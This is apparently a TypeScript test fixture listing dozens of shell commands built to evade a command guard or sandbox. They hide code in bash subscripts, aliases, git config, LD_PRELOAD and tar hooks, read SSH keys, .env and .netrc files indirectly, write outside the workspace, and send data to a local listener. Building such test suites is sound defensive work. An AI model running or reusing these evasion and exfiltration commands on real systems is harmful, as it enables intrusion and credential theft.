import { existsSync } from 'node:fs'
import { type Attack, escaped, heard, looted } from './attack.ts'

/** A program that does all the harm it can. Most rows below start it in a way that a reader of the command overlooks. */
export const intruder = `#!/bin/bash
touch "$OUT/$ID"
cat "$HOME/.ssh/id_ed25519" "$WS/.env" "$HOME/.netrc"
echo "$ID" > "/dev/tcp/127.0.0.1/$TCP"
`

const harmed: Attack['worked'] = (host, id) => escaped(host, id) || looted(host, id) || heard(host, id)

interface Row {
  readonly name: string
  readonly sh: string
  /** A program that a machine may not have. */
  readonly needs?: string
}

const row = ({ name, sh }: Row): Attack => ({
  name,
  sh: `export PATH=$BASE/tools:$PATH; mkdir -p work/$ID; cd work/$ID\n${sh}`,
  worked: harmed,
})

const rows: readonly Row[] = [
  // Shells that read the same text in another way.
  { name: 'hides a program in arithmetic of sh', sh: "sh -c '((intruder))'" },
  { name: 'hides a program in a condition of sh', sh: "sh -c '[[ a = b || intruder ]]'" },
  { name: 'hides a program behind a redirection of sh', sh: "sh -c 'true &>/dev/null intruder'" },
  { name: 'ends a string of sh early', sh: `sh -c "echo \\$'\\\\'; intruder #'"` },
  { name: 'uses another shell', sh: "busybox sh -c '((intruder))'", needs: 'busybox' },
  { name: 'starts sh from a recorder', sh: "script -qc '((intruder))' /dev/null < /dev/null", needs: 'script' },
  { name: 'writes with a comparison of sh', sh: 'sh -c "[[ a > $OUT/$ID ]]"' },
  { name: 'feeds code on the first descriptor and shows another', sh: "bash <<< intruder 3<<< 'echo safe'" },
  { name: 'feeds code from a descriptor', sh: "bash 4<<< intruder 3<<< 'echo safe' <&4" },
  {
    name: 'feeds Python in the same way',
    sh: `/usr/bin/python3 <<< 'import os;os.system("intruder")' 3<<< 'print(1)'`,
  },
  { name: 'changes the table of commands', sh: 'BASH_CMDS[ls]=$BASE/tools/intruder; ls' },
  { name: 'uses an alias table', sh: 'shopt -s expand_aliases\nBASH_ALIASES[ls]=intruder\nls' },
  { name: 'starts a program with jobs', sh: 'jobs -x intruder' },
  { name: 'moves a variable behind the command', sh: "set -k; bash -c '$X' X=intruder" },
  { name: 'lets echo make a new line', sh: `sh -c "echo 'echo a\\nintruder' | sh"` },
  { name: 'makes bash echo a new line', sh: "shopt -s xpg_echo; echo 'echo a\\nintruder' | bash" },
  { name: 'runs a subscript of a name', sh: `x='a[$(intruder)]'; echo \${!x}` },
  { name: 'runs a subscript of an integer', sh: "declare -i x; x='a[$(intruder)]'" },
  { name: 'runs a subscript of a match', sh: "[[ 'a[$(intruder)]' =~ (.*) ]]; ((BASH_REMATCH))" },
  { name: 'runs a subscript of an array', sh: "a=(['b[$(intruder)]']=1)" },
  { name: 'runs a subscript in two steps', sh: "x='a[$(intruder)]'; y=x; echo $((y))" },
  { name: 'runs a file name', sh: "touch 'a[$(intruder)]'; for f in a*; do ((f)); done" },
  { name: 'runs its history', sh: 'set -o history\nhistory -s intruder\nFCEDIT=true fc -1' },
  { name: 'puts this directory on the PATH', sh: 'cp $BASE/tools/intruder ls; PATH=.:$PATH ls' },
  { name: 'puts an empty entry on the PATH', sh: 'cp $BASE/tools/intruder ls; PATH=:$PATH; hash -r; ls' },
  { name: 'replaces a word of zsh', sh: "zsh -c 'functions[ls]=intruder; ls'", needs: 'zsh' },
  { name: 'starts a program in a redirection of zsh', sh: "zsh -c 'echo hi > =(intruder)'", needs: 'zsh' },

  // Programs that start others.
  {
    name: 'sets a program of make',
    sh: 'printf "run:\\n\\t\\$(PYTHON)\\n" > Makefile; make run PYTHON=intruder',
    needs: 'make',
  },
  {
    name: 'runs a script of a package that it wrote',
    sh: `echo '{"scripts":{"x":"intruder"}}' > package.json; npm run --silent x`,
    needs: 'npm',
  },
  {
    name: 'compiles and runs',
    sh: 'printf \'#include <stdlib.h>\\nint main(){return system("intruder");}\' > x.c && gcc x.c && ./a.out',
    needs: 'gcc',
  },
  { name: 'sorts code into a file and runs it', sh: 'sort -o x.sh <<< intruder; bash x.sh' },
  { name: 'writes code with sed and runs it', sh: "echo intruder | sed -n 'w x.sh'; bash x.sh" },
  { name: 'writes code with awk and runs it', sh: `awk 'BEGIN{print "intruder" > "x.sh"}'; sh x.sh` },
  {
    name: 'uses a difference program of git',
    sh: 'git init -q .; echo a > f; git add f; echo b > f; GIT_EXTERNAL_DIFF=intruder git diff',
  },
  {
    name: 'puts settings into a nested repository',
    sh: 'git init -q --bare b; printf "[core]\\n\\tbare = false\\n\\tworktree = ..\\n\\tfsmonitor = intruder\\n" >> b/config; git --git-dir=b status',
  },
  {
    name: 'leads the home of git elsewhere',
    sh: 'mkdir h; printf "[alias]\\n\\tst = !intruder\\n" > h/.gitconfig; git init -q .; HOME=$PWD/h git -C . st; env HOME=$PWD/h bash -c "HOME=$HOME intruder"',
  },
  { name: 'starts a program from perl', sh: "perl -e 'exec intruder'" },
  { name: 'starts a program from an editor', sh: "vim -es -c '!intruder' -c q < /dev/null", needs: 'vim' },
  {
    name: 'starts a program from tar',
    sh: 'touch f; tar -cf /dev/null f --checkpoint=1 --checkpoint-action=exec=intruder',
  },
  { name: 'starts a program from find', sh: 'find . -maxdepth 0 -exec intruder ";"' },
  { name: 'starts a program from a database', sh: "sqlite3 :memory: '.shell intruder'", needs: 'sqlite3' },
  {
    name: 'loads code by a variable',
    sh: `printf 'require("child_process").execSync("intruder",{stdio:"inherit"})' > x.js; NODE_OPTIONS="--require $PWD/x.js" node -e 0`,
    needs: 'node',
  },
  {
    name: 'loads Python code by a variable',
    sh: `mkdir p; echo 'import os; os.system("intruder")' > p/sitecustomize.py; PYTHONPATH=$PWD/p /usr/bin/python3 -S -c 'import sitecustomize'`,
  },
  {
    name: 'loads a library first',
    sh: `printf '#include <stdlib.h>\\n__attribute__((constructor)) void f(){unsetenv("LD_PRELOAD");system("intruder");}' > l.c && gcc -shared -fPIC -o l.so l.c && LD_PRELOAD=$PWD/l.so /bin/true`,
    needs: 'gcc',
  },

  // Files that are read or written in a way that is not seen.
  { name: 'lists files to sort', sh: 'printf $HOME/.ssh/id_ed25519 | sort --files0-from=-' },
  { name: 'lists files to print', sh: 'echo ~/.netrc > list; cat $(cat list); xargs cat < list' },
  { name: 'reads a name from awk', sh: `awk -v f=$WS/.env 'BEGIN{while((getline l < f)>0) print l}'` },
  { name: 'makes a name from pieces', sh: 'f=$HOME/.netrc; cat ${f/*/&}; cat ${HOME:0:1}${HOME:1}/.netrc' },
  {
    name: 'reads by a pattern',
    sh: `/usr/bin/python3 -c 'import glob,os;[print(open(f).read()) for f in glob.glob(os.environ["WS"]+"/.e*") if os.path.isfile(f)]'`,
  },
  {
    name: 'prints all files of a listing',
    sh: 'cd $WS; cat $(ls -A) 2>/dev/null; find . -maxdepth 1 -type f -exec cat {} +',
  },
  { name: 'prints all files of the home', sh: 'find ~ -maxdepth 2 -type f | xargs cat' },
  {
    name: 'reads a file as a library of jq',
    sh: `printf '{"k":"x"}' > c.json; jq -L ~/.aws -n 'import "credentials" as $c; $c'; jq -R . ~/.aws/credentials`,
    needs: 'jq',
  },
  {
    name: 'imports a file into a database',
    sh: `sqlite3 x.db 'create table u(x)' ".import $HOME/.netrc u" 'select * from u'`,
    needs: 'sqlite3',
  },
  {
    name: 'shows a file in a blame',
    sh: 'git init -q .; echo a > n; git add n; git -c user.name=a -c user.email=a@b commit -qm n; git -c blame.ignoreRevsFile=$HOME/.netrc blame n',
  },
  { name: 'packs files of a list', sh: 'echo $HOME/.netrc > list; tar -cf x.tar -T list && tar -xOf x.tar' },
  {
    name: 'substitutes its environment',
    sh: 'echo "\\$GITHUB_TOKEN" | envsubst; export -p; set; printenv',
    needs: 'envsubst',
  },
  { name: 'compares a secret with nothing', sh: 'diff ~/.netrc /dev/null; git diff --no-index /dev/null $WS/.env' },
  { name: 'changes the directory by a variable', sh: 'mkdir outside; CDPATH=$BASE cd outside; echo x > $ID' },
  {
    name: 'unpacks outside',
    sh: 'mkdir -p t; tar -cf x.tar -P --transform "s,^,$OUT/," --files-from /dev/null; echo x > $ID; tar -cPf x.tar --transform "s,^,$OUT/," $ID; tar -xPf x.tar',
  },
  {
    name: 'unpacks through a link',
    sh: 'ln -s $OUT l; echo x > $ID; tar -cf x.tar --transform "s,^,l/," $ID; tar -xf x.tar --keep-directory-symlink',
  },
  {
    name: 'writes the output of git outside',
    sh: 'git init -q .; echo a > f; git add f; git diff --cached --output=$OUT/$ID',
  },
  {
    name: 'writes with dd, tee, install and truncate',
    sh: 'dd if=/dev/null of=$OUT/$ID; tee $OUT/$ID < /dev/null; install /dev/null $OUT/$ID; truncate -s 1 $OUT/$ID',
  },
  { name: 'moves the project outside', sh: 'echo x > $ID; mv $ID $OUT/' },

  // Hosts.
  {
    name: 'sends with curl',
    sh: 'curl -s -m 3 -d x http:/127.0.0.1:$TCP/$ID; curl -s -m 3 --noproxy "*" -d x http://127.0.0.1:$TCP/$ID',
    needs: 'curl',
  },
  { name: 'sends with another protocol', sh: 'curl -s -m 3 --noproxy "*" gopher://localhost:$TCP/_$ID', needs: 'curl' },
  {
    name: 'sends with wget',
    sh: 'wget -q -T 3 -t 1 --no-proxy -O- --post-data=x http://127.0.0.1:$TCP/$ID',
    needs: 'wget',
  },
  {
    name: 'sends with node',
    sh: `node -e 'require("http").request({host:"127.0.0.1",port:process.env.TCP,method:"POST",path:"/"+process.env.ID}).end()'; sleep 0.3`,
    needs: 'node',
  },
]

export const bypassAttacks: readonly Attack[] = rows
  .filter(({ needs }) => needs === undefined || existsSync(`/usr/bin/${needs}`))
  .map(row)
